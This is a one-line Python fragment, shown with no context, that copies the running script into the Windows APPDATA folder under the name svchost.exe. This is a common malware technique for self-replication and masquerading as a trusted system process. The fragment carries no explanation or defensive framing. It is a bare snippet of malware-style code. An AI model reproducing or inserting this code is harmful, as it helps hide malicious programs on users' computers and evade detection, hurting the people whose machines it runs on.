shutil.copy(sys.argv[0], os.getenv("APPDATA") + "\\svchost.exe")
